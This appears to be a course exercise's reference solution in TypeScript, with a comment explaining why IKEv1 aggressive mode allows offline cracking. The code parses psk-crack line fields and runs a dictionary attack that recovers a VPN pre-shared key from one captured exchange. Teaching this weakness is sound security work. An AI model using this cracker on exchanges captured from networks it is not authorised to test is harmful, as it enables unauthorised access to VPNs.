/**
 * Exercise 08-aggressive-mode/psk-crack: recover a pre-shared key offline
 * from one captured aggressive mode exchange (reference solution).
 *
 * Why it works: in aggressive mode the responder's second message carries
 * HASH_R = prf(SKEYID, g^xr | g^xi | CKY-R | CKY-I | SAi_b | IDir_b) with
 * SKEYID = prf(PSK, Ni_b | Nr_b) (RFC 2409 sections 5 and 5.4), and every
 * input except the PSK is in clear text in messages 1 and 2. Anyone who saw
 * them (or who sent message 1 himself, as ike-scan does) can guess a PSK,
 * recompute HASH_R and compare: no further packet, no lockout, as fast as the
 * CPU hashes. The Diffie-Hellman secret is not needed: HASH_R does not cover
 * g^xy. Main mode sends the same hash encrypted under keys that need g^xy,
 * which is why this attack needs aggressive mode.
 *
 * The line format is psk-crack's (ike-scan --pskcrack writes it):
 *   g_xr:g_xi:cky_r:cky_i:sai_b:idir_b:ni_b:nr_b:hash_r
 * each field hex, payload bodies without their 4-octet generic headers.
 *
 * Lesson: lessons/08-aggressive-mode.md#psk-crack
 */
import { equalBytes } from "@course/bytes.ts";
import { FieldError, TextFormatError } from "@course/errors.ts";
import type { HashName } from "@course/ike-algorithms.ts";
import { IKE_HASHES } from "@course/ike-algorithms.ts";
import { fromHex } from "../01-bytes/hex.ts";
import { hashR } from "../06-phase1-keys/auth-hash.ts";
import { skeyidPsk } from "../06-phase1-keys/skeyid.ts";

/** The cleartext of one aggressive mode exchange, as psk-crack needs it. */
export interface CrackInput {
  /** Key Exchange Data of message 2 (responder) and message 1 (initiator). */
  readonly gxr: Uint8Array;
  readonly gxi: Uint8Array;
  /** Responder SPI and Initiator SPI from the ISAKMP header. */
  readonly ckyR: Uint8Array;
  readonly ckyI: Uint8Array;
  /** The body of the initiator's SA payload (message 1). */
  readonly saiB: Uint8Array;
  /** The body of the responder's ID payload (message 2). */
  readonly idirB: Uint8Array;
  /** Nonce DATA of message 1 and message 2. */
  readonly niB: Uint8Array;
  readonly nrB: Uint8Array;
  /** Hash DATA of message 2: HASH_R. */
  readonly hashR: Uint8Array;
  /** The negotiated hash; when absent it is chosen by HASH_R's length as psk-crack does (16 MD5, 20 SHA-1). */
  readonly hash?: HashName;
}

/** The nine fields of a psk-crack line, in order, with psk-crack's names. */
const LINE_FIELDS = ["g_xr", "g_xi", "cky_r", "cky_i", "sai_b", "idir_b", "ni_b", "nr_b", "hash_r"] as const;

function hexField(name: string, text: string): Uint8Array {
  // fromHex would accept separators; inside a colon-separated line only digits are valid.
  if (!/^[0-9a-fA-F]+$/.test(text)) throw new TextFormatError(name, text, "must be hex digits, at least one byte");
  if (text.length % 2 !== 0) throw new TextFormatError(name, text, `${text.length} hex digits is an odd number`);
  return fromHex(text);
}

export function parsePskCrackLine(line: string): CrackInput {
  const parts = line.trim().split(":");
  if (parts.length !== LINE_FIELDS.length) {
    throw new TextFormatError("psk-crack line", line, `${LINE_FIELDS.length} colon-separated fields expected (${LINE_FIELDS.join(":")}), found ${parts.length}`);
  }
  const [gxr, gxi, ckyR, ckyI, saiB, idirB, niB, nrB, hashRBytes] = LINE_FIELDS.map((name, i) => hexField(name, parts[i]!)) as [
    Uint8Array, Uint8Array, Uint8Array, Uint8Array, Uint8Array, Uint8Array, Uint8Array, Uint8Array, Uint8Array,
  ];
  // Cookies are exactly 8 octets (RFC 2408 section 3.1); both public values
  // come from one group, so they have its fixed length (RFC 2409 section 5).
  if (ckyR.length !== 8) throw new FieldError("Responder SPI", ckyR.length, "a cookie is exactly 8 octets (RFC 2408 section 3.1)");
  if (ckyI.length !== 8) throw new FieldError("Initiator SPI", ckyI.length, "a cookie is exactly 8 octets (RFC 2408 section 3.1)");
  if (gxr.length !== gxi.length) {
    throw new FieldError("Key Exchange Data", gxr.length, `g_xr and g_xi come from one Diffie-Hellman group and must have the same length (g_xi has ${gxi.length})`);
  }
  return { gxr, gxi, ckyR, ckyI, saiB, idirB, niB, nrB, hashR: hashRBytes };
}

/** The hash HASH_R was made with: the one given, or the one its length implies. */
function crackHash(input: CrackInput): HashName {
  const n = input.hashR.length;
  if (input.hash !== undefined) {
    if (IKE_HASHES[input.hash].bytes !== n) throw new FieldError("Hash DATA", n, `a ${input.hash} HASH_R is ${IKE_HASHES[input.hash].bytes} octets`);
    return input.hash;
  }
  // psk-crack's rule: the line does not say which hash was negotiated (it is
  // in sai_b, but with several transforms only the reply tells which one won).
  if (n === 16) return "md5";
  if (n === 20) return "sha1";
  throw new FieldError("Hash DATA", n, "16 octets means MD5 and 20 SHA-1; for another length say which hash was negotiated");
}

export function crackPsk(input: CrackInput, words: Iterable<string>): string | undefined {
  const h = crackHash(input);
  const transcript = { gxi: input.gxi, gxr: input.gxr, ckyI: input.ckyI, ckyR: input.ckyR, saiB: input.saiB };
  const utf8 = new TextEncoder();
  // Exactly the responder's computation, once per guess. The loop stops at
  // the first match, so a generator of candidates is read only that far.
  for (const word of words) {
    const skeyid = skeyidPsk(h, utf8.encode(word), input.niB, input.nrB);
    if (equalBytes(hashR(h, skeyid, transcript, input.idirB), input.hashR)) return word;
  }
  return undefined;
}
